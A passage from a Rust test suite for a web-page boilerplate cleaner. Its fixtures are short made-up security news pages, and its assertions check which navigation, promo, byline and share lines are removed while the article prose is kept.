Subject: [list] CVE-2026-1: path traversal in libfoo

libfoo versions 1.0 through 1.4 fail to check link
targets when extracting archives in the default
safe mode.

CVE-2026-1 has been assigned and the issue is fixed in 1.5.

References
----------

[1] https://foo.example/security/2026-001.html
[2] https://git.foo.example/libfoo/commit/5e1f0c9
[3] https://foo.example/releases/1.5/

Regards,
Ann Maintainer, for the libfoo team

--
Ann Maintainer | libfoo release manager
";
    let c = clean(
        page,
        "[list] CVE-2026-1: path traversal in libfoo",
        &no_rules(),
    );
    assert_kept(
        &c,
        &[
            "libfoo versions 1.0",
            "safe mode.",
            "References\n----------",
            "[3] https://foo.example/releases/1.5/",
        ],
    );
    assert_gone(
        &c,
        &[
            "Subject:",
            "Regards,",
            "for the libfoo team",
            "release manager",
        ],
    );
}

#[test]
fn a_drop_cap_on_a_line_of_its_own_stays_over_the_rest_of_its_word() {
    let page = "\
# The quiet siege

*How a small utility kept its water clean through eleven days of manual operation.*

T
he call came at 3:12 a.m. on a Tuesday, from the night operator, who had come back to a screen she had never seen before.

For a few seconds she thought it was a prank, and then the dosing display froze and the alarm panel went blank.
";
    let c = clean(page, "The quiet siege", &no_rules());
    assert_kept(&c, &["T\nhe call came"]);
}

#[test]
fn buttons_that_hand_the_same_address_on_are_a_share_row_whatever_their_names() {
    let para = "The botnet spread through home routers left with their default passwords, and the national CERT asked every provider to push new firmware to its customers this week.";
    let page = format!(
        "\
# Router botnet

[Share](https://s.example/pingr?u=news.example) [Post](https://s.example/chatterly?u=news.example) [Copy link](#)

{para}

{para}
"
    );
    let c = clean(&page, "Router botnet", &no_rules());
    assert_kept(&c, &["default passwords"]);
    assert_gone(&c, &["[Share]", "[Copy link]"]);
}

#[test]
fn a_post_card_quoted_whole_goes_by_its_posters_handle_without_an_avatar() {
    let para = "Police arrested seven people who sent fake parcel messages asking for a small customs fee, and took the card details of more than nine hundred victims.";
    let page = format!(
        "\
# Phishing gang arrested

{para}

> **City News** @citynews · 28 Oct.
> Seven arrested, more than 900 victims. No parcel service asks for a fee by text message.
> 💬 37 🔁 212 ❤️ 540
> [View on X](https://x-social.example/citynews/status/1)

## How they were found

{para}
"
    );
    let c = clean(&page, "Phishing gang arrested", &no_rules());
    assert_kept(&c, &["## How they were found", "nine hundred victims"]);
    assert_gone(&c, &["@citynews", "No parcel service", "[View on X]"]);
}

#[test]
fn a_promo_box_between_rules_goes_by_its_shape_and_a_forms_label_may_lead_with_a_pictograph() {
    let para = "The shop left a test server open with the names, addresses and phone numbers of its customers, and it was found by a researcher scanning for open databases.";
    let page = format!(
        "\
# Shop leaks customer data

{para}

---

**Support independent news**

We live on our readers' support. Give a little every month.

[Give now](https://news.example/my/donate)

---

{para}

> 📬 **Get our newsletter!**
> Every Friday, the week's main stories in your inbox.
> [Your e-mail address] [SIGN UP]

{para}
"
    );
    let c = clean(&page, "Shop leaks customer data", &no_rules());
    assert_kept(&c, &["open databases"]);
    assert_gone(
        &c,
        &[
            "Support independent",
            "every month",
            "[Give now]",
            "newsletter",
            "Every Friday",
        ],
    );
}

#[test]
fn a_labelled_name_beside_the_date_is_the_byline_and_a_read_also_line_may_sit_over_a_heading() {
    let para = "Researchers say more than three thousand fake delivery messages were sent in one week, each linking to a page that copies the postal service and asks for the card.";
    let page = format!(
        "\
# Fake delivery texts

**Researchers warn of a wave of fake delivery messages aimed at bank card holders this week.**

Reporter - A. Name

18.03.2026, 14:05 | 👁 1 874

{para}

{para}

**Related:** [Fake VPN app spreads spyware to diplomats](https://news.example/2026/01/fake-vpn)

## Techniques

* T1566.001 — spear-phishing attachment
* T1204.002 — user opens a malicious file
"
    );
    let c = clean(&page, "Fake delivery texts", &no_rules());
    assert_kept(&c, &["wave of fake delivery", "## Techniques", "T1204.002"]);
    assert_gone(&c, &["Reporter", "14:05", "Related:"]);

    // A byline whose fields end with a time of day, its dot no sentence's.
    let page = format!(
        "# Fake delivery texts\n\nBy **A. Name** · Suva, 7 October 2026 · 11:42 a.m.\n\n{para}\n\n{para}\n"
    );
    let c = clean(&page, "Fake delivery texts", &no_rules());
    assert_gone(&c, &["11:42"]);
}

#[test]
fn a_photos_credit_may_follow_a_dash_for_its_colon() {
    let para = "The shop left a test server open with the names and phone numbers of two million customers, and a researcher found it while scanning for open databases.";
    let page = format!(
        "\
# Shop leaks customer data

{para}

![The warehouse](https://news.example/img/warehouse.jpg)

*The company's warehouse. Photo - News Agency*

{para}

![The forum post](https://news.example/img/forum.jpg)

*Photo - News Agency archive*

{para}
"
    );
    let c = clean(&page, "Shop leaks customer data", &no_rules());
    assert_kept(&c, &["open databases"]);
    assert_gone(&c, &["company's warehouse", "Photo - "]);
}

#[test]
fn an_item_counter_and_links_to_the_previous_and_next_items_end_the_story() {
    let para = "Attackers exploit a path traversal in the file transfer server to read any file on it, and the vendor has released fixed versions for every supported branch.";
    let page = format!(
        "\
# Path traversal in a file transfer server

{para}

## References

- [Vendor bulletin](https://vendor.example/bulletins/17)
- [CVE record](https://cve.example/CVE-2026-1)

---

Feed item 142 of 150 in this channel

[← Previous advisory: several bugs in a PLC's web interface](https://cert.example/advisories/141)

[Next advisory: a VPN client's authentication bypass →](https://cert.example/advisories/143)

This mirror is regenerated every 15 minutes, and the original advisory takes precedence.
"
    );
    let c = clean(
        &page,
        "Path traversal in a file transfer server",
        &no_rules(),
    );
    assert_kept(&c, &["every supported branch", "[CVE record]"]);
    assert_gone(
        &c,
        &[
            "Feed item",
            "Previous advisory",
            "Next advisory",
            "regenerated",
        ],
    );
}

#[test]
fn a_forums_menu_row_opens_no_story_and_a_greeting_opens_the_post() {
    let para = "We have released version 9.2.4 to fix a heap overflow in the VPN portal that lets a remote attacker run code, and we know of a few cases where it was exploited.";
    let page = format!(
        "\
# VPN portal flaw fixed

Options: Subscribe to RSS Feed · Mark Topic as New · Mark Topic as Read · Float this Topic for Current User · Bookmark · Printer Friendly Page

📌 ANNOUNCEMENT

**Vendor_PSIRT** Vendor Staff

Hello everyone,

{para}

{para}
"
    );
    let c = clean(&page, "VPN portal flaw fixed", &no_rules());
    assert_kept(&c, &["Hello everyone,", "heap overflow"]);
    assert_gone(&c, &["Options:", "ANNOUNCEMENT", "Vendor Staff"]);
}

#[test]
fn an_ad_label_between_dashes_and_a_sponsors_line_with_its_demo_button_go() {
    let para = "The attackers relayed the single sign-on session of hundreds of employees and changed their bank details in the payroll portal before the next pay run.";
    let page = format!(
        "\
# Payroll portal fraud

{para}

*— Sponsored —*
**Keepsafe:** stop phishing with passkeys for every employee. [Book a demo →](https://keepsafe.example/demo)

{para}
"
    );
    let c = clean(&page, "Payroll portal fraud", &no_rules());
    assert_kept(&c, &["next pay run"]);
    assert_gone(&c, &["Sponsored", "Keepsafe", "Book a demo"]);
}

#[test]
fn a_pull_quote_may_repeat_a_wrapped_paragraph_or_its_sentences_apart() {
    let page = "\
# The quiet siege

\"I remember thinking, the water doesn't know,\" she told me. \"The pumps were still running. It was just that nobody could see it anymore.\"

## The night shift

The intruders had logged in through the box nine days before the night the operator saw the skull on her screen.
They spent those nine days quietly mapping the network and copying the utility's billing database.
They also disabled the backup job that ran every Sunday, which made the recovery far harder.

> \"The water doesn't know. The pumps were still running.\"

By the time the encryptor ran, the crew had already posted a countdown on its leak site for everyone to see.
";
    let c = clean(page, "The quiet siege", &no_rules());
    assert_kept(&c, &["she told me", "countdown"]);
    assert_gone(&c, &["> \"The water"]);
}

#[test]
fn a_newsletters_section_label_over_the_story_and_its_next_section_after_it_go() {
    let para = "The attackers changed the bank details of hundreds of employees in the payroll portal with stolen credentials, and the money was gone before the next pay run.";
    let page = format!(
        "\
# Weekly #142: The payroll portal that paid the wrong people

## THIS WEEK'S LEAD

**Attackers hijacked direct-deposit details at a hospital group by abusing its payroll portal.**

{para}

{para}

## ALSO THIS WEEK

- **[Other News: Police dismantle a smishing kit](https://other.example/2026/11/kit)**
- **[Bytes: A CMS bug exploited days after its patch](https://bytes.example/2026/11/cms)**
"
    );
    let c = clean(
        &page,
        "Weekly #142: The payroll portal that paid the wrong people",
        &no_rules(),
    );
    assert_kept(&c, &["**Attackers hijacked", "next pay run"]);
    assert_gone(&c, &["THIS WEEK'S LEAD", "ALSO THIS WEEK", "smishing kit"]);
}

#[test]
fn rows_of_links_to_the_sites_own_pages_are_no_threads_headers() {
    // Three rows, each opening with a one-word link to a page at the
    // site's root and going on with links to pages of that kind: the
    // site's menu, share row and footer, not a thread's headers (who,
    // then when or what). Read as one, the share row under the standfirst
    // ended the story before its first paragraph.
    let para = "The plant ran by hand for eleven days while the operators walked the floor with clipboards, reading every gauge by eye and timing the pumps with kitchen stopwatches.";
    let page = format!(
        "\
[Subscribe](https://mag.example/subscribe) | [Sign in](https://mag.example/signin)

# The quiet siege

*How a small utility kept its water clean.*

[Share](https://mag.example/share) · [Save](https://mag.example/save) · [Gift this article](https://mag.example/gift)

{para}

{para}

[About](https://mag.example/about) · [Masthead](https://mag.example/masthead) · [Privacy](https://mag.example/privacy)
"
    );
    let c = clean(&page, "The quiet siege", &no_rules());
    assert_kept(&c, &["kitchen stopwatches"]);
    assert_gone(&c, &["[Share]", "[Masthead]"]);
}

#[test]
fn a_name_over_each_post_of_one_authors_thread_goes_and_her_posts_stay() {
    let post = |n: usize| {
        format!(
            "[**Rena Ashdown** @rena@social.example](https://social.example/@rena)\n\nPost {n} of the thread: the phishing kit now checks the visitor's language before it shows the fake login page, and it drops anyone arriving from a known scanner.\n"
        )
    };
    let page = format!(
        "# Phishing kit thread\n\n{}\n{}\n{}\n[**Mo Quinn** @mo@other.example](https://other.example/@mo)\n\nGreat thread, thanks for sharing all of this with us.\n",
        post(1),
        post(2),
        post(3)
    );
    let c = clean(&page, "Phishing kit thread", &no_rules());
    assert_kept(&c, &["Post 1 of", "Post 2 of", "Post 3 of"]);
    assert!(!c.markdown.contains("Rena Ashdown"), "{}", c.markdown);
}

#[test]
fn thai_written_without_spaces_is_prose_and_its_read_also_line_goes() {
    let para = "นักวิจัยจากบริษัทความปลอดภัยเปิดเผยว่าพบมัลแวร์แอนดรอยด์ตัวใหม่ที่แฝงมากับแอปคืนภาษีปลอมและขโมยรหัสผ่านธนาคารของผู้ใช้";
    let page = format!(
        "# มัลแวร์แอปคืนภาษีปลอม\n\n{para}\n\nอ่านเพิ่มเติม: [รู้ทัน 5 กลโกงมิจฉาชีพออนไลน์ยอดฮิตปี 2026](https://news.example.th/security/scams/)\n\n{para}\n"
    );
    let info = measure(para);
    assert!(info.words >= 12, "{} words", info.words);
    let c = clean(&page, "มัลแวร์แอปคืนภาษีปลอม", &no_rules());
    assert!(c.markdown.contains("นักวิจัย"), "{}", c.markdown);
    assert!(!c.markdown.contains("อ่านเพิ่มเติม"), "{}", c.markdown);
}

#[test]
fn a_tag_list_written_one_tag_a_line_closes_the_question_and_the_answers_after_it() {
    let page = "\
# Odd outbound DNS from a print server - normal?

Our print server started sending TXT lookups to a domain nobody here has heard of, about one every ten seconds since Tuesday night.

The lookups carry long random labels, which looks like tunnelling to me, but the vendor says its cloud agent does the same thing. We have no EDR on that segment, only the firewall's own logs, and they roll over after two days, so I cannot tell when the lookups really began or what else the server talked to.

* [dns](https://ask.example/questions/tagged/dns)
* [exfiltration](https://ask.example/questions/tagged/exfiltration)
* [printers](https://ask.example/questions/tagged/printers)

asked Feb 3 at 09:12

Those labels are base32 and the timing is a beacon. Pull the agent's binary and hash it against the vendor's published list before you trust it. Then block the domain at the resolver, capture a day of traffic from the server, and ask the vendor in writing which domains its agent is meant to reach.
";
    let c = clean(
        page,
        "Odd outbound DNS from a print server - normal?",
        &no_rules(),
    );
    assert_kept(&c, &["TXT lookups", "looks like tunnelling"]);
    assert_gone(&c, &["[dns]", "[printers]", "asked Feb", "base32"]);
}

#[test]
fn a_heading_the_pages_contents_link_to_is_a_section_not_the_title() {
    let page = "\
**In this issue:**

* [Home routers on the run again](#routers)
* [Odds and ends](#odds)

## Hello again.

A short week, but a busy one: two router makers patched bugs that were used in the wild, and one of them took a month to say so.

## Home routers on the run again

The first maker fixed a login bypass that a botnet had been using to enlist devices since early in the month.
";
    let c = clean(
        page,
        "Weekly Wire #12: Home routers on the run again",
        &no_rules(),
    );
    assert_kept(
        &c,
        &[
            "## Hello again.",
            "A short week",
            "## Home routers on the run again",
        ],
    );
    assert_gone(&c, &["In this issue", "[Odds and ends]"]);
}

#[test]
fn a_newsletters_sign_off_and_its_mailing_list_footer_go() {
    let page = "\
# Weekly Wire #13

A ransomware crew has started to phone its victims' customers, reading out stolen invoices to press the company into paying sooner.

Two insurers now ask for proof of offline backups before they renew a policy, and brokers expect more to follow this year.

That's it for this week. Hit reply and tell us what we missed.

[Forward to a friend](https://mail.example/forward?id=13)

You are receiving this email because you opted in on our website.

Want to change how you receive these emails? You can [update your preferences](https://mail.example/prefs).
";
    let c = clean(page, "Weekly Wire #13", &no_rules());
    assert_kept(&c, &["phone its victims", "proof of offline backups"]);
    assert_gone(
        &c,
        &[
            "That's it",
            "Forward to a friend",
            "You are receiving",
            "preferences",
        ],
    );
}

#[test]
fn a_wikis_edit_links_see_also_list_notices_and_navigation_box_go() {
    let page = "\
# Grayfinch

* [Article](https://wiki.example/wiki/Grayfinch)
* [History](https://wiki.example/w/index.php?title=Grayfinch&action=history)

*Not to be confused with [Grayfin](https://wiki.example/wiki/Grayfin).*

| This article **is a stub**. You can help by [expanding it](https://wiki.example/w/index.php?title=Grayfinch&action=edit). |
| --- |

| Grayfinch | |
| --- | --- |
| Type | [Infostealer](https://wiki.example/wiki/Infostealer) |
| First seen | 2023 |

**Grayfinch** is an [infostealer](https://wiki.example/wiki/Infostealer) sold on forums since 2023 that takes saved passwords, cookies and crypto wallets from browsers, then sends them to a panel its buyers rent by the month.

## Spread

[[edit](https://wiki.example/w/index.php?title=Grayfinch&action=edit&section=1)]

It spreads through cracked software on video sites and through fake installers for popular games, according to several vendors. Later builds also arrive as fake browser updates on hacked news sites, and a few as attachments to mails that pose as shipping notices from a courier.

## See also

[[edit](https://wiki.example/w/index.php?title=Grayfinch&action=edit&section=2)]

* [Infostealer](https://wiki.example/wiki/Infostealer)
* [Grayfin](https://wiki.example/wiki/Grayfin)

## References

[[edit](https://wiki.example/w/index.php?title=Grayfinch&action=edit&section=3)]

1. Kite Labs (4 May 2024). [\"Grayfinch takes flight\"](https://kitelabs.example/grayfinch). Retrieved 6 May 2024.

| **Stealers** | |
| --- | --- |
| Families | [Grayfinch](https://wiki.example/wiki/Grayfinch) · [Redtail](https://wiki.example/wiki/Redtail) · [Owlet](https://wiki.example/wiki/Owlet) |
";
    let c = clean(page, "Grayfinch", &no_rules());
    assert_kept(
        &c,
        &[
            "| Grayfinch | |",
            "| Type | [Infostealer]",
            "| First seen | 2023 |",
            "sold on forums",
            "## Spread",
            "cracked software",
            "## References",
            "Grayfinch takes flight",
        ],
    );
    assert_gone(
        &c,
        &[
            "Not to be confused",
            "is a stub",
            "[edit]",
            "See also",
            "* [Grayfin]",
            "**Stealers**",
            "Families",
        ],
    );
}

#[test]
fn tlp_markings_wire_credits_and_a_print_views_byline_and_footer_go() {
    let page = "\
# Joint advisory on a VPN flaw

Posted By *Sam Ortega* On June 2, 2025 @ 9:05 am In Advisories,Vulnerabilities | [2 Comments](https://desk.example/vpn#comments)

The agencies say a flaw in a popular VPN gateway is used to plant web shells, and that more than fifty networks were entered this way.

TLP:CLEAR

The actors then add a local account and clear the gateway's logs, so the agencies urge owners to check for accounts they did not create.

TLP: AMBER+STRICT

Patches are out for every supported branch, and the vendor has published a script that looks for the known web shells.

Reporting by Lea Moreau in Paris; Editing by Tom Grady

Article printed from Desk: **https://desk.example**

URL to article: **https://desk.example/vpn**
";
    let c = clean(page, "Joint advisory on a VPN flaw", &no_rules());
    assert_kept(
        &c,
        &["plant web shells", "add a local account", "Patches are out"],
    );
    assert_gone(
        &c,
        &[
            "Posted By",
            "TLP",
            "Reporting by",
            "printed from",
            "URL to article",
        ],
    );
}

#[test]
fn a_viber_share_row_a_follow_line_led_by_a_platforms_name_and_a_filipino_feedback_widget_go() {
    let page = "\
# Bank warns of fake SMS

Scammers are sending text messages that look like they come from the bank and link to a fake login page that asks for a one-time code.

The bank says it never asks for codes by text or phone, and that anyone who entered one should call its hotline at once.

Sundan kami sa aming [Telegram channel](https://t.me/bank_example) para sa balita

The bank has also blocked the fake pages it knows about and asked telecoms to filter messages carrying their addresses.

Nakatulong ba ang page na ito?

**Ibahagi:** [Facebook](https://www.facebook.com/sharer.php?u=x) [Viber](viber://forward?text=x)
";
    let c = clean(page, "Bank warns of fake SMS", &no_rules());
    assert_kept(
        &c,
        &[
            "one-time code",
            "never asks for codes",
            "blocked the fake pages",
        ],
    );
    assert_gone(&c, &["Telegram channel", "Nakatulong", "Viber"]);
    // A sentence that names a platform's thread is the story's.
    let thread = "\
# Researcher posts exploit

A researcher published a working exploit for the router bug on Monday, two weeks after the vendor's patch, and explained the chain step by step.

She described it in a [Twitter thread](https://twitter.com/a_researcher/status/1).

The vendor says the patch fully fixes the flaw and urges owners to install it as soon as they can, since scans have already begun.
";
    let c = clean(thread, "Researcher posts exploit", &no_rules());
    assert_kept(&c, &["Twitter thread"]);
}

#[test]
fn drops_a_players_chapter_marks_and_their_label() {
    let page = "\
# Walking through the kiosk firmware bug

A kiosk vendor shipped firmware that left a debug console open on every unit sold since last spring, and this episode walks through how it was found.

Chapters:

[0:00](https://video.example/watch?v=abc&t=0s) Welcome

[1:12](https://video.example/watch?v=abc&t=72s) Finding the console

The console accepted any password of eight characters, so anyone with a keyboard could reach a root shell in under a minute on the units we tested.

The vendor pushed a fix on Tuesday and asked operators to install it before the weekend, when most kiosks sit unattended.
";
    let c = clean(page, "Walking through the kiosk firmware bug", &no_rules());
    assert_kept(
        &c,
        &["debug console open", "root shell", "before the weekend"],
    );
    assert_gone(&c, &["Welcome", "Finding the console", "Chapters:"]);
    // A show's own list of segments, written plain, stays.
    let notes = "\
# Episode 12: kiosks

A kiosk vendor shipped firmware that left a debug console open on every unit sold since last spring, and this episode walks through how it was found.

* (00:00) Welcome and the week's news in brief
* (04:10) How the console was found in a shopping mall

The vendor pushed a fix on Tuesday and asked operators to install it before the weekend, when most kiosks sit unattended.
";
    let c = clean(notes, "Episode 12: kiosks", &no_rules());
    assert_kept(&c, &["(04:10) How the console"]);
}

#[test]
fn drops_a_row_of_reactions() {
    let page = "\
# Heap overflow in the image parser

Opening a crafted TIFF file makes the parser write past the end of a heap buffer, which we could turn into code execution on two platforms.

🚀 17 ❤️ 2 😄 9

A fix is in version 3.1.4, and the maintainers ask every packager to ship it this week rather than wait for the next release.
";
    let c = clean(page, "Heap overflow in the image parser", &no_rules());
    assert_kept(&c, &["crafted TIFF", "version 3.1.4"]);
    assert_gone(&c, &["🚀"]);
}

#[test]
fn drops_a_video_descriptions_promos() {
    let page = "\
# Breaking the badge reader

We took apart a popular office badge reader and found that it trusts any card that answers with the right length of serial number, whatever the serial says.

This episode is sponsored by LockBox — get 15% off with code BADGE15 at [https://lockbox.example/deal](https://video.example/redirect?q=lockbox)

Buy me a coffee: [https://coffee.example/badges](https://video.example/redirect?q=coffee)

Mastodon: [@badges@social.example](https://video.example/redirect?q=social)

Show less

The vendor says a firmware update that checks the whole serial number is coming next month, and that readers can be set to a stricter mode today. Until then, we suggest that offices pair the reader with a PIN pad, log every failed read, and watch for the same card being used at two doors within a minute.
";
    let c = clean(page, "Breaking the badge reader", &no_rules());
    assert_kept(&c, &["trusts any card", "stricter mode"]);
    assert_gone(
        &c,
        &["BADGE15", "Buy me a coffee", "@badges@social", "Show less"],
    );
}

#[test]
fn drops_a_form_and_its_promo_inside_the_article() {
    let page = "\
# Detecting the Marlin loader

## Summary

The Marlin loader arrives as a fake browser update and drops a stealer a few minutes later, so catching the loader early spares a password reset for the whole team.

### Get our loader handbook

**The 2026 loader handbook.** Forty pages on how loaders are sold and run. Fill in the form to read it.

Given name*

Family name*

Work email*

Region*

Choose...

I agree to hear from the publisher. You can opt out whenever you like. See our [Privacy Policy](https://vendor.example/privacy).

Get the handbook

## Detection

The loader writes a scheduled task named after a browser updater and starts it from a temporary folder, which no real updater does on any version we looked at.

**Daily digest**

Every morning, the news of the day in your inbox.

Your e-mail

Sign me up

## What to do

Remove the task, delete the folder, and reset the passwords saved in the browser on the affected machine before anyone signs in again.
";
    let c = clean(page, "Detecting the Marlin loader", &no_rules());
    assert_kept(
        &c,
        &[
            "fake browser update",
            "## Detection",
            "scheduled task",
            "Remove the task",
        ],
    );
    assert_gone(
        &c,
        &[
            "loader handbook",
            "Forty pages",
            "Given name",
            "Work email",
            "Choose...",
            "opt out",
            "Get the handbook",
            "Daily digest",
            "Every morning",
            "Your e-mail",
            "Sign me up",
        ],
    );
}

#[test]
fn keeps_a_summary_list_under_the_title() {
    let page = "\
# Port operator hit by ransomware

[Live reporting by A. Reporter](https://news.example/profile/a-reporter)

### Key points

* Cranes stopped at two terminals on Friday morning
* Operator says no customs data was taken

[Key points only](https://news.example/live/port?filter=key)

#### 09.10 GMT

The operator says two of its four terminals are working again, and that ships due this weekend will be unloaded with a day's delay at most.
";
    let c = clean(page, "Port operator hit by ransomware", &no_rules());
    assert_kept(
        &c,
        &[
            "### Key points",
            "Cranes stopped",
            "no customs data",
            "four terminals",
        ],
    );
}

#[test]
fn keeps_the_time_stamps_of_a_log_of_updates() {
    let page = "\
# Login errors for EU customers

**Resolved**

Sign-in works again for every customer in the EU region, and we are watching error rates closely over the next few hours.

Updated Feb 3, 2026 - 16:05 UTC

**Identified**

A certificate on one of our identity servers expired overnight, and requests routed to it failed until it was replaced this afternoon.

Updated Feb 3, 2026 - 11:40 UTC

**Investigating**

We are looking into reports of failed sign-ins for customers in the EU region and will post again within the hour.

Updated Feb 3, 2026 - 09:15 UTC
";
    let c = clean(page, "Login errors for EU customers", &no_rules());
    assert_kept(
        &c,
        &[
            "Updated Feb 3, 2026 - 16:05 UTC",
            "Updated Feb 3, 2026 - 11:40 UTC",
            "Updated Feb 3, 2026 - 09:15 UTC",
        ],
    );
    // A byline's date, once, is still the page's.
    let story = "\
# Login errors for EU customers

Updated Feb 3, 2026 - 16:05 UTC

Sign-in works again for every customer in the EU region, and we are watching error rates closely over the next few hours.

A certificate on one of our identity servers expired overnight, and requests routed to it failed until it was replaced this afternoon.
";
    let c = clean(story, "Login errors for EU customers", &no_rules());
    assert_gone(&c, &["16:05"]);
}

#[test]
fn drops_the_contact_lines_after_the_article() {
    let page = "\
# Two arrested over fake parcel texts

Police arrested two men on Tuesday who are suspected of sending hundreds of thousands of fake parcel texts that led victims to a card-stealing page.

Officers seized six phones and a laptop, and say they are still tracing the money taken from victims' cards over the past year.

For more information:

Press desk, Cybercrime Unit, tel. 22 33 44 55
";
    let c = clean(page, "Two arrested over fake parcel texts", &no_rules());
    assert_kept(&c, &["hundreds of thousands", "tracing the money"]);
    assert_gone(&c, &["Press desk", "For more information"]);
}

#[test]
fn keeps_a_references_section_that_links_to_its_own_site() {
    let page = "\
# Zip slip in unpackr

[Home](https://forge.example/) [Explore](https://forge.example/explore) [Pricing](https://forge.example/pricing)

The `extract` function joins member names to the destination without resolving them, so a crafted archive can write files anywhere the process may write.

### Patches

Version 1.9.2 resolves every member path and refuses members that would land outside the destination folder, and it is available now.

### References

* [unpackr/unpackr@4a1b2c3](https://forge.example/unpackr/unpackr/commit/4a1b2c3)
* [Release 1.9.2](https://forge.example/unpackr/unpackr/releases/tag/v1.9.2)
";
    let c = clean(page, "Zip slip in unpackr", &no_rules());
    assert_kept(&c, &["### References", "unpackr@4a1b2c3", "Release 1.9.2"]);
}

#[test]
fn reads_an_author_link_with_a_date_as_the_byline() {
    let page = "\
# Fake delivery apps steal bank codes

Scritto da [Lucia Maria Ferri](https://blog.example/author/lucia/) il 3 marzo 2026 per la redazione sicurezza · [5 commenti](#comments)

A wave of fake delivery apps asks for accessibility rights and then reads the one-time codes that banks send by text message.

The apps are spread through text messages that quote part of the victim's name and a parcel number, which makes them look real.
";
    let c = clean(page, "Fake delivery apps steal bank codes", &no_rules());
    assert_kept(&c, &["accessibility rights", "parcel number"]);
    assert_gone(&c, &["Lucia Maria Ferri"]);
}

#[test]
fn reads_a_dated_row_of_fields_with_pipes_as_the_page_data() {
    let page = "\
# Monthly Threat Summary 2026-04

Issued: 2 April 2026 | Summary ID: MS-2026-04 | [Print](#) | [PDF](https://agency.example/ms-2026-04.pdf)

Share: [X](https://agency.example/share?to=x) [Email](https://agency.example/share?to=mail)

This summary lists the intrusions, phishing waves and urgent patches that the agency handled during the month of March, with what each organisation should check.

## Phishing waves

Three waves of messages imitated the postal service and asked for a small customs fee through a page that copied the card form of a real bank.
";
    let c = clean(page, "Monthly Threat Summary 2026-04", &no_rules());
    assert!(c.kept_original.is_none(), "{:?}", c.kept_original);
    assert_kept(&c, &["This summary lists", "Three waves"]);
    assert_gone(&c, &["Summary ID", "Share:"]);
}

#[test]
fn finds_a_title_set_in_bold_or_with_underscores() {
    let page = "\
[Channel](https://chat.example/mychannel)

Weekly tips for defenders, in short posts. Send news to the editors.

**Patch the mail_relay daemon now**

The maintainers of the mail relay daemon released version 3.4.1 after attackers used a flaw in its login command to run code on exposed servers.

Administrators should upgrade at once and look for unknown accounts created since the start of the month on every relay they run.
";
    let c = clean(page, "Patch the mail_relay daemon now", &no_rules());
    assert_kept(&c, &["released version 3.4.1", "unknown accounts"]);
    assert_gone(&c, &["Weekly tips for defenders", "**Patch the"]);
}

#[test]
fn drops_a_read_also_line_in_any_script_or_before_the_footer() {
    let page = "\
# Card payments fail across the country

Card terminals in shops and petrol stations stopped taking payments on Friday afternoon after a fault at the largest payment processor.

**Կարդացեք նաև՝** [Ինչպես չդառնալ խարդախության զոհ հեռախոսով](https://news.example/fraud-calls)

The processor said the fault came from an update of its routing system and that no card data had been exposed at any point.

**Read also:** [Fraudsters call older people pretending to be bank staff](https://news.example/older-people)

[Share on Facebook](https://www.facebook.com/sharer/sharer.php?u=x) [Share on X](https://x.com/intent/tweet?url=x)
";
    let c = clean(page, "Card payments fail across the country", &no_rules());
    assert_kept(&c, &["Card terminals", "routing system"]);
    assert_gone(&c, &["Կարդացեք", "Fraudsters call"]);
}

#[test]
fn drops_a_quoted_newsletter_box_with_bracketed_fields() {
    let page = "\
# Parcel texts lead to fake payment pages

Police warn of text messages that claim a parcel is held at customs and ask for a small fee through a link to a copied payment page.

> **Get our technology letter!**
>
> Every Friday the week's most important news about computers and security, straight to your inbox.
>
> [Your mail address] [Order]

## How to protect yourself

Check whether you expect a parcel at all, and open the courier's own app or site instead of following a link from a message.
";
    let c = clean(page, "Parcel texts lead to fake payment pages", &no_rules());
    assert_kept(&c, &["Police warn", "courier's own app"]);
    assert_gone(
        &c,
        &["technology letter", "Every Friday", "[Your mail address]"],
    );
}

#[test]
fn keeps_a_quoted_button_without_a_field() {
    let page = "\
# Payroll phishing hits staff

Staff received this message, which copies the payroll office's style and asks them to confirm their bank details before the next payment.

> Our records show your details must be checked again before the next payroll cycle.
>
> [Confirm Bank Details]

The link leads to a page on a look-alike domain that asks for the staff member's login and the code from their phone.
";
    let c = clean(page, "Payroll phishing hits staff", &no_rules());
    assert_kept(&c, &["[Confirm Bank Details]", "look-alike domain"]);
}

#[test]
fn drops_a_newsletter_promo_with_its_name_and_consent_line() {
    let page = "\
# Booter service taken down

Police in four countries took down a booter service that sold attacks against game servers and school networks for a few euros a month.

**Sign up to Netletter**

Our free weekly newsletter on technology and safety online. [Sign up](https://news.example/newsletter)

By signing up you agree to our privacy policy.

Investigators said the service kept records of its customers, including user names and payment details, which they will now examine.

Anyone who paid for an attack should expect a letter or a visit, the police said, as the records name thousands of customers in many countries and list every target they chose.
";
    let c = clean(page, "Booter service taken down", &no_rules());
    assert_kept(&c, &["took down a booter", "kept records"]);
    assert_gone(&c, &["Sign up to Netletter", "By signing up"]);
}

#[test]
fn drops_a_promo_for_the_site_channel_that_opens_with_a_pictograph() {
    let page = "\
# Fake invitation files spread in chats

Criminals send files that look like wedding invitations or parcel notices in group chats, and the files install an app that reads text messages.

📢 Be the first to know the latest news: join our [Telegram channel](https://news.example/telegram) now!

The national response team said that more than four hundred phones had been infected since the start of the month in the capital alone.
";
    let c = clean(page, "Fake invitation files spread in chats", &no_rules());
    assert_kept(&c, &["Criminals send files", "four hundred phones"]);
    assert_gone(&c, &["Be the first to know"]);
}

#[test]
fn drops_a_video_promo_between_paragraphs() {
    let page = "\
# Hospital hit by ransomware

The hospital moved to paper records on Monday after an attack encrypted the servers that hold its patient files and appointment lists.

[▶ VIDEO | How a ransomware attack works, in two minutes](https://news.example/video/ransomware)

**Video:** Three steps to protect your account (03:12)

[![Video: Three steps](https://news.example/thumbs/steps.jpg)](https://news.example/video/steps)

The agency said the attackers used a flaw in the remote access gateway that had been fixed by its vendor some weeks before the attack.
";
    let c = clean(page, "Hospital hit by ransomware", &no_rules());
    assert_kept(&c, &["paper records", "remote access gateway"]);
    assert_gone(
        &c,
        &[
            "How a ransomware attack works",
            "Three steps",
            "thumbs/steps.jpg",
        ],
    );
}

#[test]
fn reads_dates_written_in_other_scripts() {
    let page = "\
# Data centre outage

Government services were unreachable for most of Sunday after a flood of traffic hit the national data centre from many countries at once.

The centre said that every service would be back by Monday evening and that no data had been taken from any of its systems.

प्रकाशित मिति: आइतबार, जेठ ३, २०८३ १५:१५
";
    let c = clean(page, "Data centre outage", &no_rules());
    assert_kept(&c, &["Government services", "Monday evening"]);
    assert_gone(&c, &["प्रकाशित"]);
}

#[test]
fn keeps_a_row_of_bold_labelled_facts_in_a_section() {
    let page = "\
# Weekly bulletin

This bulletin sums up the flaws, threats and patches that the team followed during the week, with what each reader should do about them.

## 1. Gateway flaw exploited

